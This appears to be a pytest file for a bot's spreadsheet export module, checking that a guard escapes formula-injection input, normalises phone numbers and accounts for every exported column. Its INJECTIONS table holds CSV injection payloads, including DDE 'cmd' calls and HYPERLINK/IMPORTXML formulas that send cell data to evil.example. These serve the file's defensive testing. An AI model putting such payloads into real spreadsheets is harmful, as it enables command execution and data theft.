"""What stands in the cells of an export: nothing a spreadsheet would carry out, and nothing lost in JSON."""

from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from sqlalchemy import inspect

from bot.sheets import PHONES, SHEETS, cell, guarded, plain
from storage.models import Activation, OutgoingMessage, Rental, RentalOrder, RentalText, Sms, Step

#: What spreadsheets have been attacked with (OWASP, CSV injection), and what stands in the cell.
INJECTIONS = {
    "=1+1": "'=1+1",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Your code")': (
        '\'=HYPERLINK("http://evil.example?x="&A1,"Your code")'
    ),
    '=IMPORTXML(CONCAT("http://evil.example?",A2),"//a")': (
        '\'=IMPORTXML(CONCAT("http://evil.example?",A2),"//a")'
    ),
    "\t=1+1": "'\t'=1+1",
    "\tTelegram": "'\tTelegram",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
    "  =1+1": "  '=1+1",
    "\u00a0=1+1": "\u00a0'=1+1",
    "\x00=1+1": "'=1+1",
    "\uff1d1+1": "'\uff1d1+1",
    "\uff20SUM(A1)": "'\uff20SUM(A1)",
    "Your code;=1+1": "Your code;'=1+1",
    "Your code\n@SUM(A1)": "Your code\n'@SUM(A1)",
    "Your code\t-1": "Your code\t'-1",
    "a|=1": "a|'=1",
}
HARMLESS = (
    *("", "12345", "04817", "AB-12", "G-778899", "Your code is 12345.", "Ваш код: 123", "Mã của bạn: 5"),
    *("a=b", "1+1", "me@example.com", "two\nlines", 'say "hi", then go', "c'est la vie"),
)


@pytest.mark.parametrize("written", INJECTIONS, ids=ascii)
def test_no_text_of_a_stranger_begins_a_formula(written: str) -> None:
    assert guarded(written) == INJECTIONS[written]


@pytest.mark.parametrize("written", HARMLESS, ids=ascii)
def test_what_is_harmless_stays_as_it_came(written: str) -> None:
    assert guarded(written) == written


@pytest.mark.parametrize(
    "written", ["+380501234567", "+1 201-555-0001", "380501234567", "+84 (0) 91 234 56 78"]
)
def test_a_phone_number_is_its_digits_which_every_spreadsheet_keeps(written: str) -> None:
    for name in PHONES:
        found = cell(name, written)
        assert found.isdecimal()
        assert len(found) <= 15
        assert int(float(found)) == int(found)


def test_values_are_written_so_that_they_can_be_read_back() -> None:
    moment = datetime(2026, 5, 1, 14, 2, 3, 999, tzinfo=timezone(timedelta(hours=2)))
    written = {
        moment: "2026-05-01T12:02:03Z",
        Decimal("0.500"): "0.500",
        Decimal("-1E-7"): "-0.0000001",
        7: "7",
        "text": "text",
    }
    assert {value: plain(value) for value in written} == {**written, 7: 7}
    assert {value: cell("x", value) for value in written} == written
    assert (cell("x", None), cell("x", True), plain(None), plain(True)) == ("", "true", None, True)
    assert datetime.fromisoformat("2026-05-01T12:02:03Z") == moment.astimezone(UTC).replace(microsecond=0)


def test_what_is_not_known_is_no_text_by_accident() -> None:
    with pytest.raises(TypeError):
        plain(object())


def test_every_column_of_these_tables_is_exported_or_known_not_to_be() -> None:
    """Nobody's key, what else a button may spend with, and what only the bot's own work needs."""
    left = {table.__name__: {column.key for column in inspect(table).columns} - TOLD[table] for table in TOLD}
    assert left == LEFT_OUT


TOLD: dict[type[object], set[str]] = {table: set() for table in (Activation, Rental, OutgoingMessage)}
TOLD |= {table: set() for table in (Sms, Step, RentalOrder, RentalText)}
for sheet in SHEETS.values():
    for columns in (sheet.columns, *(part.columns for part in sheet.parts.values())):
        for column in columns.values():
            TOLD[column.class_].add(column.key)
_WORK = {"key_id", "chat_id", "owner_id", "next_poll_at", "polled_at", "failures"}
LEFT_OUT = {
    "Activation": {
        *(
            _WORK
            | {
                "nonce",
                "batch",
                "position",
                "count",
                "try_from",
                "held_before",
                "cancel_from",
                "cancel_at",
                "last_written",
            }
        ),
        *(
            "another_sms",
            "asked_again",
            "told_sent",
            "bought_by",
            "for_all",
            "card_chat_id",
            "card_message_id",
        ),
    },
    "Rental": {
        *(_WORK | {"online", "sim_wish", "sim_wished_at", "pressed_at", "listed_at", "missing_since"}),
        "answered_at",
    },
    "OutgoingMessage": {*_WORK, "created_at", "answered_at", "viber_ttl", "sms_ttl", "flash"},
    "Sms": {"id", "activation_id"},
    "Step": {"id", "activation_id"},
    "RentalOrder": {
        *("rental_id", "chat_id", "owner_id", "key_id", "country", "created_at", "held_before", "looks")
    },
    "RentalText": {"id", "rental_id", "copy"},
}
